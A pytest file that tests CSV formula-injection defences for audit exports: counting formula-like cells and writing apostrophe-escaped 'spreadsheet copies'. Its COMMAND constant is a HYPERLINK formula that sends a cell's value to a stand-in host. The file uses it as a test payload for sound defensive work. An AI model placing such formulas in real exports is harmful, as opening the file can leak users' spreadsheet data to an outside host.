"""Tests of spreadsheet copies: formulas are counted in an export and harmless in a copy."""

import csv
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sample_run import KEY, SampleRun
from sqlalchemy import Float, Integer

from elspeth.core.landscape import LandscapeDB, LandscapeExporter
from elspeth.core.landscape.output.atomic import ExportTargetError
from elspeth.core.landscape.output.publish import publish_csv
from elspeth.core.landscape.output.spreadsheet import (
    _NUMBERS,
    FORMULA_STARTS,
    formula_cells,
    spreadsheet_copy_of,
    write_spreadsheet_copy,
)
from elspeth.core.landscape.schema import EXPORTED_TABLES
from elspeth.core.landscape.verification.csv_files import SPREADSHEET_MARKER
from elspeth.core.landscape.verification.verify import Reason, verify

COMMAND = '=HYPERLINK("http://x/?"&A1,"a, b")\r\nand more'


def node(**fields: object) -> dict[str, Any]:
    plain = {"record_type": "node", "run_id": "r", "node_id": "n", "plugin_name": "p"}
    return {**plain, "sequence_in_pipeline": 0, **fields}


def exported(folder: Path, *records: dict[str, Any]) -> Path:
    folder.mkdir(exist_ok=True)
    publish_csv(folder / "run", records)
    return folder / "run"


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_no_column_holds_numbers_in_one_table_and_text_in_another() -> None:
    """Columns of numbers are recognised by name, in every file."""
    texts = {
        column.name
        for table in EXPORTED_TABLES
        for column in table.columns
        if not isinstance(column.type, Integer | Float)
    }
    assert not _NUMBERS & texts


class TestCounting:
    @pytest.mark.parametrize("start", FORMULA_STARTS)
    def test_every_start_counts_wherever_it_stands_in_the_line(
        self, tmp_path: Path, start: str
    ) -> None:
        for number, field in enumerate(("node_id", "plugin_name", "run_id")):
            export = exported(tmp_path / str(number), node(**{field: f"{start}1+1"}))
            assert formula_cells(export) == {"node.csv": 1}

    @pytest.mark.parametrize(
        "text",
        ["", "a=1", " =1", "'=1", "a\n=1", "a,=1", 'a"=1', '"=1', "é", "\uff11", "\uff11\uff1d"],
    )
    def test_other_texts_do_not(self, tmp_path: Path, text: str) -> None:
        assert formula_cells(exported(tmp_path, node(plugin_name=text))) == {}

    def test_numbers_do_not_count_but_texts_that_look_like_numbers_are(
        self, tmp_path: Path
    ) -> None:
        assert formula_cells(exported(tmp_path, node(sequence_in_pipeline=-1))) == {}
        export = exported(tmp_path, node(sequence_in_pipeline=-1, plugin_name="-1"))
        assert formula_cells(export) == {"node.csv": 1}

    def test_files_are_counted_each(self, tmp_path: Path) -> None:
        run = {"record_type": "run", "run_id": "@r", "config_hash": COMMAND}
        export = exported(tmp_path, run, node(plugin_name="+a"), node(plugin_name="b"))
        assert formula_cells(export) == {"node.csv": 1, "run.csv": 2}

    def test_a_real_export_has_none(
        self, candidate: LandscapeExporter, sample: SampleRun, tmp_path: Path
    ) -> None:
        candidate.write_csv(sample.run_id, tmp_path / "run", sign=True)
        assert formula_cells(tmp_path / "run") == {}


class TestCopy:
    def test_texts_are_disarmed_and_numbers_and_the_export_left_alone(self, tmp_path: Path) -> None:
        export = exported(
            tmp_path, node(plugin_name=COMMAND, sequence_in_pipeline=-1), node(node_id="'=1")
        )
        before = (export / "node.csv").read_bytes()
        target = write_spreadsheet_copy(export)
        assert target == tmp_path / "run.spreadsheet"
        assert (export / "node.csv").read_bytes() == before
        first, second = cells(target / "node.csv")
        assert first["plugin_name"] == f"'{COMMAND}"
        assert first["sequence_in_pipeline"] == "-1"
        assert second["node_id"] == "'=1"
        line = (target / "node.csv").read_bytes().splitlines()[0]
        assert line == b'"node_id","plugin_name","record_type","run_id","sequence_in_pipeline"'

    @given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0")), max_size=20))
    def test_no_text_of_a_copy_is_one_that_counts_and_all_can_be_told(
        self, tmp_path_factory: pytest.TempPathFactory, texts: Iterable[str]
    ) -> None:
        names = list(texts) or ["x"]
        export = exported(
            tmp_path_factory.mktemp("copy"), *(node(plugin_name=text) for text in names)
        )
        copied = [row["plugin_name"] for row in cells(write_spreadsheet_copy(export) / "node.csv")]
        assert not any(text.startswith(FORMULA_STARTS) for text in copied)
        assert copied == [f"'{text}" if text.startswith(FORMULA_STARTS) else text for text in names]

    def test_it_is_marked_and_never_verifies(
        self, candidate: LandscapeExporter, sample: SampleRun, tmp_path: Path
    ) -> None:
        candidate.write_csv(sample.run_id, tmp_path / "run", sign=True)
        target = write_spreadsheet_copy(tmp_path / "run")
        assert "does not verify" in (target / SPREADSHEET_MARKER).read_text()
        found = verify(target, KEY)
        assert [defect.reason for defect in found.defects] == [Reason.SPREADSHEET_COPY]
        assert "verify the export it was made of" in found.defects[0].message
        assert verify(tmp_path / "run", KEY).ok

    def test_an_earlier_copy_is_replaced_whole(self, tmp_path: Path) -> None:
        run = {"record_type": "run", "run_id": "r"}
        write_spreadsheet_copy(exported(tmp_path, run, node()))
        target = write_spreadsheet_copy(exported(tmp_path, node(plugin_name="=1")))
        assert sorted(path.name for path in target.iterdir()) == [SPREADSHEET_MARKER, "node.csv"]
        assert sorted(path.name for path in tmp_path.iterdir()) == ["run", "run.spreadsheet"]

    @pytest.mark.parametrize("kind", ["file", "link", "other folder"])
    def test_something_else_in_its_place_is_left_alone(self, tmp_path: Path, kind: str) -> None:
        target = tmp_path / "run.spreadsheet"
        if kind == "file":
            target.touch()
        elif kind == "link":
            target.symlink_to(tmp_path)
        else:
            target.mkdir()
            (target / "notes.txt").touch()
        with pytest.raises(ExportTargetError, match="is not a copy of an export; move it away"):
            spreadsheet_copy_of(tmp_path / "run")

    def test_a_line_longer_than_any_limit_of_a_reader_is_copied_whole(self, tmp_path: Path) -> None:
        name = "=" + "x" * 2**22
        export = exported(tmp_path, node(plugin_name=name))
        copy = write_spreadsheet_copy(export)
        assert f"'{name}" in (copy / "node.csv").read_text()


@pytest.fixture
def db(tmp_path: Path) -> Iterator[LandscapeDB]:
    """Which backend wrote the files makes no difference here."""
    with LandscapeDB(f"sqlite:///{tmp_path / 'audit.db'}") as landscape:
        yield landscape
